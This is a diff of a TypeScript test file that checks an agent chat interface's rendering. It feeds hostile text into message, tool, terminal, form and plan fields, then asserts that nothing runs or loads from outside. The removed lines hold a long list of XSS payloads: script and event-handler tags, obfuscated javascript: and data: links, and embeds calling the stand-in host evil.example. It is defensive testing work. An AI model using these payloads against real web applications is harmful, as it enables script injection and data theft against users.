@@ -1,135 +1,59 @@
 /** Nothing an agent says can run, or load anything from outside, in whatever field it says it. */
+import { readdirSync, readFileSync } from "node:fs";
 import { describe, expect, test } from "vitest";
 import type { Action, ResponsePart } from "../../src/state/types.gen";
 import { CHAT, type MemoryStore, readyStore, SESSION, startTurn, summary } from "./memory-store";
 import { open, type Page } from "./page";
 
-const RUN = "globalThis.__owned=1";
-const MESSAGES: string[] = [
-  `<script>${RUN}</script>`,
-  `<script src="https://evil.example/x.js"></script>`,
-  `<img src=x onerror="${RUN}">`,
-  `<img src="https://evil.example/pixel.png">`,
-  `<svg onload="${RUN}"><circle r=1></svg>`,
-  `<svg><script>${RUN}</script></svg>`,
-  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
-  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
-  `<math href="javascript:${RUN}">click</math>`,
-  `<iframe src="javascript:${RUN}"></iframe>`,
-  `<iframe src="https://evil.example"></iframe>`,
-  `<object data="https://evil.example/x.swf"></object>`,
-  `<embed src="https://evil.example/x">`,
-  `<link rel=stylesheet href="https://evil.example/x.css">`,
-  `<style>@import "https://evil.example/x.css"; * { display: none }</style>`,
-  `<body onload="${RUN}">`,
-  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
-  `<video><source onerror="${RUN}"></video>`,
-  `<audio src="https://evil.example/a.mp3" autoplay></audio>`,
-  `<form action="https://evil.example"><input name=a><button>go</button></form>`,
-  `<input autofocus onfocus="${RUN}">`,
-  `<base href="https://evil.example/">`,
-  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
-  `<a href="javascript:${RUN}">x</a>`,
-  `<template><script>${RUN}</script></template>`,
-  `<xmp></xmp><script>${RUN}</script>`,
-  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
-  `<!--><script>${RUN}</script>-->`,
-  `<![CDATA[<script>${RUN}</script>]]>`,
-  `<div style="background:url(https://evil.example/x)">x</div>`,
-  `<x-y onclick="${RUN}">z</x-y>`,
-  `</div></div></section><script>${RUN}</script>`,
-  `"><script>${RUN}</script>`,
-  `' onmouseover='${RUN}`,
-  `[click](javascript:${RUN})`,
-  `[click](JaVaScRiPt:${RUN})`,
-  `[click](java\tscript:${RUN})`,
-  `[click](\u0001javascript:${RUN})`,
-  `[click](&#106;avascript:${RUN})`,
-  `[click](&#x6A;&#x61;vascript:${RUN})`,
-  `[click](javascript&colon;${RUN})`,
-  `[click](java&NewLine;script:${RUN})`,
-  `[click](vbscript:${RUN})`,
-  `[click](data:text/html,<script>${RUN}</script>)`,
-  `[click](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)`,
-  `[click](blob:https://evil.example/1)`,
-  `[click](file:///etc/passwd)`,
-  `[click](//evil.example/x)`,
-  `[click](\\\\evil.example\\x)`,
-  `[click](/\\evil.example)`,
-  `[click](view-source:https://evil.example)`,
-  `[click](https://good.example "title\\" onclick=\\"${RUN}")`,
-  `<javascript:${RUN}>`,
-  `![x](https://evil.example/pixel.png)`,
-  `![x](javascript:${RUN})`,
-  `![x](data:image/svg+xml,<svg onload=${RUN}>)`,
-  `![x](data:image/png;base64,iVBORw0KGgo=)`,
-  `[ref]\n\n[ref]: javascript:${RUN}`,
-  `![ref]\n\n[ref]: https://evil.example/p.png`,
-  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
-  `\`\`\`"><script>${RUN}</script>\nx\n\`\`\``,
-  `\`\`\`constructor\nx\n\`\`\``,
-  `\`\`\`__proto__\nx\n\`\`\``,
-  `[constructor] [__proto__] [toString]`,
-  `| <script>${RUN}</script> | b |\n|---|---|\n| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |`,
-  `# <svg onload=${RUN}>`,
-  `> <script>${RUN}</script>`,
-  `- <iframe src="https://evil.example"></iframe>`,
-  `{{constructor.constructor("${RUN}")()}}`,
-  `\${${RUN}}`,
-  `$\\href{javascript:${RUN}}{x}$`,
-  "\u202etxt.exe\u202c and \u2066hidden\u2069",
-  "zero\u200bwidth\u2060and\ufeffmarks",
-  "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u001b]0;title\u0007",
-  "\u001b[2J\u001b[H\u0007\u0000\u0008\u007f",
-  ">".repeat(3000),
-  "[".repeat(5000),
-  "![".repeat(3000),
-  "*a ".repeat(3000),
-  "_".repeat(5000),
-  "`".repeat(4999),
-  "- ".repeat(2000),
-  "<".repeat(5000),
-  "a".repeat(100_000),
-  `${"\u0301".repeat(2000)}`,
-  "&amp;".repeat(3000),
-  "|".repeat(3000),
-  "\ud800 lone surrogate",
-];
+interface Attack {
+  text: string;
+  times?: number;
+}
+
+const FOLDER = "../tests/cases/attacks";
+/** Every attack of the cases. */
+const MESSAGES: string[] = readdirSync(FOLDER)
+  .filter((name) => name.endsWith(".json"))
+  .flatMap((name) => (JSON.parse(readFileSync(`${FOLDER}/${name}`, "utf8")) as { messages: Attack[] }).messages)
+  .map(({ text, times = 1 }) => text.repeat(times));
+/** So many are put into one view: it shows no more turns at a time. */
+const BATCH = 15;
 
 const FORBIDDEN =
-  "script, iframe, object, embed, link, meta, base, form:not(.prompt), style, video, source, svg:not(.icon), math, foreignObject, template";
+  "script, iframe, object, embed, link, meta, base, form:not(.prompt, .input-request), style, video, source, svg:not(.icon), math, foreignObject, template";
+
+const HREF = /^(https?:\/\/|mailto:|(?![a-z][a-z0-9+.-]*:|\/\/|[\\])[^\\]*$)/i;
+const SRC = /^data:(image\/(png|jpeg|gif|webp)|audio\/[a-z]+);base64,/;
+const NEVER = new Set(["srcdoc", "action", "formaction", "ping", "background", "poster", "srcset", "data"]);
+
+function isHarmful(element: Element, { name, value }: Attr): boolean {
+  if (name.startsWith("on") || NEVER.has(name)) return true;
+  if (name === "href") return !HREF.test(value) || !element.getAttribute("rel")?.includes("noopener");
+  if (name === "src") return !SRC.test(value);
+  return name === "style" && /url|@import|expression/i.test(value);
+}
 
 /** What must hold of everything that a view has drawn. */
 function expectHarmless(page: Page, what: string): void {
   const body = page.find(".root");
-  expect(
-    [...body.querySelectorAll(FORBIDDEN)].map((element) => element.outerHTML.slice(0, 200)),
-    what,
-  ).toEqual([]);
-  for (const element of body.querySelectorAll("*")) {
-    for (const { name, value } of element.attributes) {
-      expect(name.startsWith("on"), `${what}: ${name}=${value}`).toEqual(false);
-      if (name === "href")
-        expect(value, what).toMatch(/^(https?:\/\/|mailto:|(?![a-z][a-z0-9+.-]*:|\/\/|[\\])[^\\]*$)/i);
-      if (name === "src") expect(value, what).toMatch(/^data:(image\/(png|jpeg|gif|webp)|audio\/[a-z]+);base64,/);
-      if (name === "style") expect(value, what).not.toMatch(/url|@import|expression/i);
-      expect(["srcdoc", "action", "formaction", "ping", "background", "poster", "srcset", "data"], what).not.toContain(
-        name,
-      );
-    }
-    if (element.localName === "a") expect(element.getAttribute("rel"), what).toContain("noopener");
-  }
-  expect((globalThis as Record<string, unknown>).__owned, what).toEqual(undefined);
+  const found = [...body.querySelectorAll(FORBIDDEN)].map((element) => element.outerHTML.slice(0, 200));
+  for (const element of body.querySelectorAll("*"))
+    for (const attribute of element.attributes)
+      if (isHarmful(element, attribute)) found.push(`${element.localName} ${attribute.name}=${attribute.value}`);
+  expect(found, what).toEqual([]);
+  expect((globalThis as Record<string, unknown>).pwned, what).toEqual(undefined);
 }
 
 type Field = (store: MemoryStore, text: string) => void;
 
+/** The running turn of a store. */
+const running = (store: MemoryStore) => store.chat(CHAT).peek()?.activeTurn?.id ?? "";
+
 const part = (store: MemoryStore, one: unknown) =>
-  store.apply(CHAT, { type: "chat/responsePart", turnId: "t1", part: one as ResponsePart });
+  store.apply(CHAT, { type: "chat/responsePart", turnId: running(store), part: one as ResponsePart });
 
 function call(store: MemoryStore, more: { start?: object; ready?: object; complete?: object }): void {
-  const ids = { turnId: "t1", toolCallId: "c1" };
+  const ids = { turnId: running(store), toolCallId: "c1" };
   const start = { type: "chat/toolCallStart", ...ids, toolName: "other", displayName: "Tool", ...more.start };
   store.apply(CHAT, start as Action);
   if (more.ready) {
@@ -214,9 +138,10 @@ const FIELDS: Record<string, Field> = {
       ready: { confirmed: "not-needed" },
     }),
   terminal: (store, text) => {
-    const terminal = { id: "x", command: text, output: text, signal: text, exited: true, truncated: false };
+    const id = `terminal of ${running(store)}`;
+    const terminal = { id, command: text, output: text, signal: text, exited: true, truncated: false };
     store.apply(CHAT, { type: "x-agentnb/terminalOpened", terminal });
-    const details = { content: [{ type: "terminal", terminalId: "x" }] };
+    const details = { content: [{ type: "terminal", terminalId: id }] };
     call(store, { start: { details }, ready: { confirmed: "not-needed" } });
   },
   "permission title and reason": (store, text) =>
@@ -224,13 +149,18 @@ const FIELDS: Record<string, Field> = {
   "name of an option": (store, text) =>
     call(store, { ready: { options: [{ id: text, label: text, kind: text, optionKind: text }] } }),
   error: (store, text) =>
-    store.apply(CHAT, { type: "chat/error", turnId: "t1", error: { errorType: text, message: text, stack: text } }),
-  "stop reason": (store, text) => store.apply(CHAT, { type: "chat/turnComplete", turnId: "t1", stopReason: text }),
+    store.apply(CHAT, {
+      type: "chat/error",
+      turnId: running(store),
+      error: { errorType: text, message: text, stack: text },
+    }),
+  "stop reason": (store, text) =>
+    store.apply(CHAT, { type: "chat/turnComplete", turnId: running(store), stopReason: text }),
   "queued message": (store, text) =>
     store.apply(CHAT, {
       type: "chat/pendingMessageSet",
       kind: "queued",
-      id: "q1",
+      id: `q ${text.slice(0, 99)}`,
       message: { text, origin: { kind: "user" } },
     }),
   "attachment of the user": (store, text) => {
@@ -238,44 +168,106 @@ const FIELDS: Record<string, Field> = {
       { type: "resource", label: text, uri: text },
       { type: "embeddedResource", label: text, contentType: "image/png", data: text },
     ];
-    store.apply(CHAT, { type: "chat/turnComplete", turnId: "t1" });
+    const turnId = `${running(store)}, again`;
+    store.apply(CHAT, { type: "chat/turnComplete", turnId: running(store) });
     const message = { text, origin: { kind: "user" }, attachments };
-    store.apply(CHAT, { type: "chat/turnStarted", turnId: "t2", message } as Action);
+    store.apply(CHAT, { type: "chat/turnStarted", turnId, message } as Action);
   },
   "name of the agent": (store, text) => {
     const agent = { provider: "eliza", displayName: text, description: text, models: [] };
-    store.root.value = { agents: [agent, agent], sessions: [summary(SESSION, text)] };
+    const known = store.root.peek()?.agents ?? [];
+    store.root.value = { agents: [...known, { ...agent, provider: text }, agent], sessions: [summary(SESSION, text)] };
   },
   "commands and modes": (store, text) => {
     const state = store.session(SESSION);
     if (!state.value) return;
     state.value = {
       ...state.value,
-      commands: [{ name: text, description: text }],
-      modes: { currentModeId: text, availableModes: [{ id: text, name: text }] },
+      commands: [...(state.value.commands ?? []), { name: text, description: text, hint: text }],
+      modes: { currentModeId: text, availableModes: [{ id: text, name: text, description: text }] },
+      configOptions: [
+        ...(state.value.configOptions ?? []),
+        { id: text, name: text, category: text, currentValue: text, options: [{ value: text, name: text }] },
+        { id: `${text} yes`, name: text, currentValue: true },
+      ],
       contextUsage: { used: 1, size: 2, cost: { amount: 1, currency: text } },
       agentProcess: { state: "failed", message: text },
     };
   },
+  "form of the agent": (store, text) => {
+    const options = [{ id: text, label: text, description: text }];
+    store.apply(CHAT, {
+      type: "chat/inputRequested",
+      request: {
+        id: `request of ${running(store)}`,
+        message: text,
+        url: text,
+        questions: [
+          { kind: "text", id: "1", title: text, message: text, format: text, defaultValue: text },
+          { kind: "single-select", id: "2", message: text, options },
+          { kind: "multi-select", id: "3", title: text, message: text, options },
+          { kind: "boolean", id: "4", message: text },
+        ],
+      },
+    });
+  },
+  "written plan": (store, text) => {
+    for (const plan of [
+      { type: "markdown", planId: "1", content: text },
+      { type: "file", planId: "2", uri: text },
+    ])
+      part(store, { kind: "x-agentnb/raw", id: plan.planId, name: "plan_update", payload: { plan } });
+  },
 };
 
 const IN_CHAT = { kind: "chat" } as const;
-const IN_TURN = { kind: "turn", channel: CHAT, turnId: "t1" } as const;
-const ONLY_IN_CHAT = new Set(["queued message", "attachment of the user", "name of the agent", "commands and modes"]);
+/** Only here is text read as Markdown, so that its length matters; elsewhere a piece of a long one does. */
+const READ = new Set(["message of the agent", "tool output"]);
+const LONG = 800;
+
+const ENDS = new Set(["error", "stop reason"]);
+/** Fields of the whole chat or session: the last message wins, so that each gets a view of its own. */
+const ALONE = new Set(["name of the agent", "commands and modes", "form of the agent"]);
+
+function batches(name: string): string[][] {
+  const size = ALONE.has(name) ? 1 : BATCH;
+  const messages = READ.has(name) ? MESSAGES : [...new Set(MESSAGES.map((text) => text.slice(0, LONG)))];
+  const found: string[][] = [];
+  for (let at = 0; at < messages.length; at += size) found.push(messages.slice(at, at + size));
+  return found;
+}
+
+/** The last turn of the store below a cell, the rest in the chat. */
+function views(store: MemoryStore, name: string): Page[] {
+  const chat = store.chat(CHAT).peek();
+  const turn = chat?.activeTurn ?? chat?.turns.at(-1);
+  const pages = [open(store, IN_CHAT)];
+  if (turn && !ALONE.has(name)) pages.push(open(store, { kind: "turn", channel: CHAT, turnId: turn.id }));
+  return pages;
+}
+
+test("there are enough attacks", () => {
+  expect(new Set(MESSAGES).size).toBeGreaterThan(300);
+});
 
 describe.each(Object.entries(FIELDS))("hostile text in: %s", (name, fill) => {
   test(`nothing runs or loads from outside (${MESSAGES.length} messages)`, async () => {
-    for (const [index, text] of MESSAGES.entries()) {
+    for (const batch of batches(name)) {
       const store = readyStore();
-      if (name !== "commands and modes") startTurn(store, "t1", "Hi");
-      fill(store, text);
-      const page = open(store, index % 2 === 0 || ONLY_IN_CHAT.has(name) ? IN_CHAT : IN_TURN);
-      for (const fold of page.all(".fold-head[aria-expanded=false]")) fold.click();
-      for (let turn = 0; turn < 5; turn += 1) await Promise.resolve();
-      expectHarmless(page, `${name}: ${JSON.stringify(text.slice(0, 120))}`);
-      page.unmount();
+      for (const [index, text] of batch.entries()) {
+        startTurn(store, `t${index}`, "Hi");
+        fill(store, text);
+        if (!ENDS.has(name) && index < batch.length - 1)
+          store.apply(CHAT, { type: "chat/turnComplete", turnId: running(store) });
+      }
+      for (const page of views(store, name)) {
+        for (const fold of page.all(".fold-head[aria-expanded=false]")) fold.click();
+        for (let turn = 0; turn < 5; turn += 1) await Promise.resolve();
+        expectHarmless(page, `${name}: ${JSON.stringify(batch.map((text) => text.slice(0, 60)))}`);
+        page.unmount();
+      }
     }
-  }, 60_000);
+  }, 120_000);
 });
 
 test("marks that hide or reorder are written out where trust is at stake", () => {
